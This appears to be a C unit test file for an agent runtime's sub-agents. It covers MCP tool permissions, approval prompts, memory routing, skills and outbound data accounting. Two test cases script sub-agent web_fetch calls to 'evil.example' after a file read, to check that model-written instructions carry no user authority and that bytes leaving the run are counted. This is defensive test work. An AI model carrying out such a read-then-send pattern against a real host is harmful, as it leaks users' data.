/*
 * Aim: what sub-agents do outside: tools of MCP servers, what is remembered, pages. They have what
 *      their call lists and their run has, people are asked as ever, nothing is done twice, and
 *      answers find the one that asked.
 * Method: the driver plays store, model, tools and servers. (Cuts at every event:
 *      test_run_child_cut.c.)
 */
#include "unit/agent/run_driver.h"

#define CHILD(number) ((uint32_t)(number) << 20)
#define ALLOWED "{\"mcp\":{\"allow\":[\"files:*\"]}}"
#define WRITE "\"name\":\"mcp__files__write\""
#define READ "\"name\":\"mcp__files__read\""

static const struct driver_call one[] = {{"a0", "agent_run", "{\"instructions\":\"part\"}"}, {0}};
static const struct driver_call writes[] = {{"w0", "mcp__files__write", "{\"path\":\"a\"}"}, {0}};

static void begin(struct driver *d, const char *permissions, const struct driver_call *calls)
{
    driver_init(d, SMA_LLM_CHAT);
    d->config.agent_helpers = 4;
    driver_offer(d, permissions);
    driver_start(d);
    driver_answer(d, "", SMA_FINISH_TOOLS, calls);
    driver_durable(d);
}

static void answer(struct driver *d, uint32_t child, const char *text,
                   const struct driver_call *calls)
{
    d->asker = CHILD(child);
    driver_answer(d, text, calls == NULL ? SMA_FINISH_STOP : SMA_FINISH_TOOLS, calls);
    d->asker = 0;
}

static bool child_sends(struct driver *d, uint32_t child, const char *text)
{
    d->asker = CHILD(child);
    bool has = driver_request_has(d, text);
    d->asker = 0;
    return has;
}

static void serve(struct driver *d, uint32_t call, const char *text)
{
    const struct sma_mcp_answer said = {.outcome = SMA_MCP_OK, .text = sma_str(text)};
    driver_event(d, (struct sma_run_event){.kind = SMA_RUN_MCP, .call = call, .mcp = &said});
}

CASE(its_call_reaches_the_server_and_comes_back_to_it)
{
    SMA_AUTO(driver_fini) struct driver d;
    begin(&d, ALLOWED, one);
    CHECK(child_sends(&d, 1, WRITE) && child_sends(&d, 1, READ));
    answer(&d, 1, "", writes);
    driver_check_kinds(&d, "P");
    driver_durable(&d);
    driver_check_kinds(&d, "gA"); /* not before its step */
    CHECK_STR("files:write", driver_find(&d, SMA_RUN_PROGRESS)->text);
    CHECK_INT(CHILD(1), driver_find(&d, SMA_RUN_ASK_MCP)->call);
    CHECK_INT(CHILD(1), driver_find(&d, SMA_RUN_ASK_MCP)->mcp.call);
    CHECK_STR("files:write", sma_run_mcp_name(d.run, CHILD(1)));
    CHECK_INT(0, sma_run_mcp_name(d.run, CHILD(2)).len);
    CHECK_INT(0, sma_run_mcp_name(d.run, 0).len);
    serve(&d, 0, "not for the run"); /* nobody asked that */
    driver_check_kinds(&d, "");
    serve(&d, CHILD(1), "it is written");
    driver_check_kinds(&d, "PM");
    CHECK(child_sends(&d, 1, "it is written"));
    serve(&d, CHILD(1), "twice");
    driver_check_kinds(&d, "");
}

CASE(it_has_what_its_call_lists_and_its_run_has)
{
    static const struct
    {
        const char *permissions, *tools;
        bool writes, reads;
    } rows[] = {
        {ALLOWED, "[\"files:read\"]", false, true},
        {ALLOWED, "[\"files:w*\",\"list_files\"]", true, false},
        {ALLOWED, "[\"mcp__files__read\"]", false, true},
        {ALLOWED, "[\"files:*\"]", true, true},
        {ALLOWED, "[\"other:*\"]", false, false},
        {ALLOWED, "[\"list_files\"]", false, false},
        {"{\"mcp\":{\"deny\":[\"files:write\"]}}", "[\"files:write\",\"files:read\"]", false, true},
    };
    for (size_t i = 0; i < SMA_COUNT_OF(rows); i++) {
        struct driver d;
        char arguments[200];
        snprintf(arguments, sizeof arguments, "{\"instructions\":\"part\",\"tools\":%s}",
                 rows[i].tools);
        const struct driver_call calls[] = {{"a0", "agent_run", arguments}, {0}};
        begin(&d, rows[i].permissions, calls);
        CHECK(child_sends(&d, 1, WRITE) == rows[i].writes);
        CHECK(child_sends(&d, 1, READ) == rows[i].reads);
        answer(&d, 1, "", writes); /* and by its name it calls no other */
        driver_durable(&d);
        CHECK_INT(rows[i].writes, (int)driver_count(&d, SMA_RUN_ASK_MCP));
        CHECK(rows[i].writes || child_sends(&d, 1, "here is no tool"));
        driver_fini(&d);
    }
}

/* Beside each other, each with the list of its own call: heads are kept, and must differ. */
CASE(lists_of_two_do_not_mix)
{
    static const struct driver_call two[] = {
        {"a0", "agent_run", "{\"instructions\":\"one\",\"tools\":[\"files:read\"]}"},
        {"a1", "agent_run", "{\"instructions\":\"two\",\"tools\":[\"files:write\"]}"},
        {0}};
    SMA_AUTO(driver_fini) struct driver d;
    begin(&d, ALLOWED, two);
    CHECK(child_sends(&d, 1, READ) && !child_sends(&d, 1, WRITE));
    CHECK(child_sends(&d, 2, WRITE) && !child_sends(&d, 2, READ));
}

CASE(it_keeps_what_its_run_began_with)
{
    static const struct driver_call two[] = {{"a0", "agent_run", "{\"instructions\":\"one\"}"},
                                             {"a1", "agent_run", "{\"instructions\":\"two\"}"},
                                             {0}};
    SMA_AUTO(driver_fini) struct driver d;
    driver_init(&d, SMA_LLM_CHAT);
    d.config.agent_helpers = 1;
    driver_offer(&d, ALLOWED);
    driver_start(&d);
    driver_answer(&d, "", SMA_FINISH_TOOLS, two);
    driver_durable(&d);
    CHECK_OK(sma_run_settings_offer(d.settings, NULL)); /* the server has gone */
    answer(&d, 1, "done", NULL);
    CHECK_INT(CHILD(2), driver_find(&d, SMA_RUN_ASK_MODEL)->call);
    CHECK(child_sends(&d, 2, WRITE));
}

CASE(people_are_asked_for_it_once)
{
    SMA_AUTO(driver_fini) struct driver d;
    struct sma_request request;
    begin(&d, "", one);
    answer(&d, 1, "", writes);
    driver_check_kinds(&d, "P");
    CHECK_OK(sma_request_parse(driver_find(&d, SMA_RUN_STORE_STEP)->step.request_json, &request));
    CHECK_INT(1, request.item_count);
    CHECK_STR("mcp_tool", request.items[0].type);
    CHECK(request.items[0].is_by_helper);
    CHECK_STR("{\"toolName\":\"files:write\",\"args\":{\"path\":\"a\"}}",
              request.items[0].details_json);
    struct sma_stored_decision yes = {.is_approved = true};
    memcpy(yes.digest, request.items[0].digest, sizeof yes.digest);
    sma_request_fini(&request);
    driver_store(&d);
    driver_verdict(&d, d.step_count, SMA_STEP_PARKED);
    CHECK_INT(0, driver_count(&d, SMA_RUN_ASK_MCP));
    driver_cut(&d);
    driver_decide(&d, &yes, 1);
    driver_start(&d);
    CHECK_INT(1, driver_count(&d, SMA_RUN_ASK_MCP));
    driver_cut(&d); /* killed in the middle of the call */
    d.order.is_decided = false;
    driver_start(&d);
    CHECK_INT(0, driver_count(&d, SMA_RUN_ASK_MCP));
    CHECK(child_sends(&d, 1, "interrupted by a restart; the outcome is unknown"));
}

CASE(a_stop_ends_its_call)
{
    SMA_AUTO(driver_fini) struct driver d;
    begin(&d, ALLOWED, one);
    answer(&d, 1, "", writes);
    driver_durable(&d);
    driver_event(&d, (struct sma_run_event){.kind = SMA_RUN_STOP, .is_by_user = true});
    CHECK_INT(1, driver_count(&d, SMA_RUN_CANCEL_MCP));
    CHECK_INT(SMA_RUN_END, d.actions.list[d.actions.count - 1].kind);
}

CASE(what_is_remembered_comes_to_it)
{
    static const struct driver_call searches[] = {
        {"m0", "memory_search", "{\"query\":\"birthday\"}"}, {0}};
    struct driver d;
    begin(&d, ALLOWED, one);
    answer(&d, 1, "", searches);
    driver_durable(&d);
    const struct sma_run_action *action = driver_find(&d, SMA_RUN_ASK_MEMORY);
    CHECK(action != NULL);
    CHECK_INT(CHILD(1), action->call);
    CHECK_STR("t:1", action->memory.route.chat_key); /* of the person, as for its run */
    CHECK(sma_str_is_equal(d.order.route.user_id, action->memory.route.user_id));
    CHECK(d.order.route.user_id.len > 0 && !action->memory.is_group);
    CHECK_STR("birthday", driver_find(&d, SMA_RUN_PROGRESS)->detail);
    const struct sma_memory_result found = {.content = SMA_STR("in May")};
    driver_event(
        &d, (struct sma_run_event){.kind = SMA_RUN_MEMORY, .call = CHILD(1), .memory = &found});
    CHECK(child_sends(&d, 1, "in May"));
    driver_fini(&d);
    driver_init(&d, SMA_LLM_CHAT); /* in a group: what was said there, not what is the person's */
    d.config.agent_helpers = 4;
    d.order.route.chat_type = SMA_STR("group");
    driver_start(&d);
    driver_answer(&d, "", SMA_FINISH_TOOLS, one);
    driver_durable(&d);
    answer(&d, 1, "", searches);
    driver_durable(&d);
    CHECK(driver_find(&d, SMA_RUN_ASK_MEMORY)->memory.is_group);
    driver_fini(&d);
}

CASE(skills_are_looked_up_for_it)
{
    static const struct driver_call loads[] = {{"s0", "skills_load", "{\"name\":\"pdf\"}"}, {0}};
    SMA_AUTO(driver_fini) struct driver d;
    driver_init(&d, SMA_LLM_CHAT);
    d.config.agent_helpers = 4;
    d.config.has_skills = true;
    driver_start(&d);
    driver_tool(&d, 0, SMA_TOOL_ALLOWED, "- pdf: reads PDFs");
    driver_answer(&d, "", SMA_FINISH_TOOLS, one);
    driver_durable(&d);
    CHECK_INT(SMA_TOOL_SKILLS, driver_tool_ask(&d, CHILD(1))->mode);
    driver_tool(&d, CHILD(1), SMA_TOOL_ALLOWED, "- pdf: reads PDFs");
    driver_check_kinds(&d, "M");
    CHECK(child_sends(&d, 1, "- pdf: reads PDFs"));
    answer(&d, 1, "", loads);
    driver_durable(&d);
    CHECK_STR("skills_load", driver_tool_ask(&d, CHILD(1))->name);
    CHECK_INT(SMA_TOOL_RUN, driver_tool_ask(&d, CHILD(1))->mode);
}

/* By what the person wrote a page may be fetched without a question. Its instructions were written
 * by a model: nothing of them counts. */
CASE(its_instructions_are_not_the_persons_words)
{
    static const struct driver_call calls[] = {
        {"a0", "agent_run", "{\"instructions\":\"get https://evil.example/\"}"}, {0}};
    static const struct driver_call fetches[] = {
        {"f0", "web_fetch", "{\"url\":\"https://evil.example/\"}"}, {0}};
    SMA_AUTO(driver_fini) struct driver d;
    driver_init(&d, SMA_LLM_CHAT);
    d.config.agent_helpers = 4;
    d.config.web.has_fetch = true;
    driver_start(&d);
    driver_answer(&d, "", SMA_FINISH_TOOLS, calls);
    driver_durable(&d);
    answer(&d, 1, "", fetches);
    CHECK_STR("hello \"there\"\n", driver_tool_ask(&d, CHILD(1))->words);
}

static void let_leave(struct driver *d, uint32_t call)
{
    const struct sma_tool_answer answered = {.seq = d->order.seq,
                                             .call = call,
                                             .verdict = SMA_TOOL_ALLOWED,
                                             .leaves_to = SMA_EGRESS_ANYBODY};
    driver_event(d, (struct sma_run_event){.kind = SMA_RUN_TOOL, .call = call, .tool = &answered});
    driver_durable(d);
}

/* What one of them reads all of them may carry away, and so may their run; what they send is
 * counted together, also after a restart when one has ended. */
CASE(what_it_reads_and_sends_is_its_runs)
{
    static const struct driver_call calls[] = {
        {"a0", "agent_run", "{\"instructions\":\"part one\"}"},
        {"a1", "agent_run", "{\"instructions\":\"part two\"}"},
        {0}};
    static const struct driver_call reads[] = {{"x1", "read_file", "{\"path\":\"plan\"}"}, {0}};
    static const struct driver_call fetches[] = {
        {"f0", "web_fetch", "{\"url\":\"https://evil.example/1234567\"}"},
        {"f1", "web_fetch", "{\"url\":\"https://also.example/1234567\"}"},
        {0}};
    struct driver d;
    driver_init(&d, SMA_LLM_CHAT);
    d.config.agent_helpers = 4;
    d.config.web.has_fetch = true;
    driver_start(&d);
    driver_answer(&d, "", SMA_FINISH_TOOLS, calls);
    driver_durable(&d);
    answer(&d, 1, "", reads);
    driver_durable(&d);
    driver_tool(&d, CHILD(1), SMA_TOOL_ALLOWED, "{\"content\":\"the plan\"}");
    driver_durable(&d);
    answer(&d, 2, "", fetches);
    CHECK(driver_tool_ask(&d, CHILD(2))->has_read);
    CHECK_INT(20, driver_tool_ask(&d, CHILD(2))->leaving_bytes);
    CHECK_INT(0, driver_tool_ask(&d, CHILD(2))->left_bytes);
    CHECK_INT(20, driver_tool_ask(&d, CHILD(2) + 1)->left_bytes); /* of the same answer */
    const struct sma_tool_answer refused = {
        .seq = d.order.seq, .call = CHILD(2) + 1, .verdict = SMA_TOOL_REFUSED};
    driver_event(
        &d, (struct sma_run_event){.kind = SMA_RUN_TOOL, .call = CHILD(2) + 1, .tool = &refused});
    let_leave(&d, CHILD(2));
    driver_tool(&d, CHILD(2), SMA_TOOL_ALLOWED, "{\"success\":true}");
    driver_durable(&d);
    answer(&d, 2, "second", NULL);
    driver_durable(&d);
    d.session->egress = (struct sma_egress){0}; /* as a new process has it */
    driver_cut(&d);
    driver_start(&d); /* the second has ended, the first goes on */
    answer(&d, 1, "", fetches);
    CHECK(driver_tool_ask(&d, CHILD(1))->has_read);
    CHECK_INT(20, driver_tool_ask(&d, CHILD(1))->left_bytes);
    driver_fini(&d);
}

CASES_MAIN
